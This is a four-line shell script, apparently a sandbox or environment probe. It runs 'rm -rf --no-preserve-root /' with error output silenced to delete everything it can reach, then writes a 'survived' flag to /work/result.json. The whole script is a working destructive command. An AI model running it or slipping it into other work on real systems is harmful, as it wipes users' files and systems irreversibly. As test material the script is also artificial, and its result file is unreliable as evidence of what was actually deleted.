#!/bin/sh
# Deletes all that it can, and says whether it is still there to tell
rm -rf --no-preserve-root / 2> /dev/null
printf '{"survived": true}\n' > /work/result.json
